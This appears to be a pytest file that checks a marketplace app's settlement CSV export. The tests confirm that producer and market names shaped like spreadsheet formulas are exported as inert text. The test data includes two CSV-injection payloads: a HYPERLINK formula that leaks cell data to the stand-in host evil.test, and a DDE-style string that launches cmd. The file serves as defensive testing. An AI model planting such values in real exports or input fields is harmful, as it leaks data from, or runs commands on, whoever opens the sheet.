"""Security review, from the attacker's side: names typed by one party must not run as
formulas in the settlement spreadsheet the other party opens."""
import csv
import io
import uuid

from marketplace.accounts.models import Role
from marketplace.core.extensions import db
from marketplace.orders import services as orders
from marketplace.orders.models import Order, PaymentMethod
from marketplace.producers.models import StockMode, Unit
from tests.conftest import PASSWORD
from tests.factories import (
    MarketDayFactory,
    OfferFactory,
    ProducerFactory,
    ProductFactory,
    UserFactory,
    VendorFactory,
    add_organizer,
)

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'


def _handed_over_cash_order(producer_name: str, market_name: str):
    market_day = MarketDayFactory()
    market_day.market.name = market_name
    producer = ProducerFactory(name=producer_name)
    VendorFactory(market=market_day.market, producer=producer)
    product = ProductFactory(producer=producer, unit=Unit.PIECE, sold_by_weight=False, price_minor=50_000,
                             stock_mode=StockMode.PER_MARKET_DAY)
    OfferFactory(product=product, market_day=market_day, quantity_milli=10_000)
    customer = UserFactory(roles=[Role.CUSTOMER])
    order = orders.place_order(customer, market_day.id, {product.id: 1000}, slot_id=market_day.slots[0].id,
                               payment_method=PaymentMethod.CASH, phone="+7 700 000 00 00",
                               idempotency_key=uuid.uuid4().hex)
    organizer = UserFactory(email="org@example.test", roles=[Role.ORGANIZER])
    add_organizer(market_day.market, organizer)
    orders.hand_over(db.session.get(Order, order.id), organizer)
    db.session.commit()
    return market_day, producer


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_a_producer_named_like_a_formula_is_inert_in_the_organizers_settlement_csv(client, ctx):
    market_day, _producer = _handed_over_cash_order(FORMULA, "Green market")
    client.post("/login", data={"email": "org@example.test", "password": PASSWORD})
    day = market_day.date
    rows = _cells(client.get(f"/organize/markets/{market_day.market.id}/settlement"
                             f"?start={day}&end={day}&format=csv"))
    assert rows[1][0] == "'" + FORMULA
    assert rows[1][2:] == ["0.00", "500.00", "0.00", "5", "25.00", "475.00"]  # amounts stay numbers


def test_a_market_named_like_a_formula_is_inert_in_the_producers_settlement_csv(client, ctx):
    market_day, producer = _handed_over_cash_order("Honest farm", "@SUM(1+1)*cmd|' /C calc'!A0")
    client.post("/login", data={"email": producer.user.email, "password": PASSWORD})
    day = market_day.date
    rows = _cells(client.get(f"/shop/settlement?start={day}&end={day}&format=csv"))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"
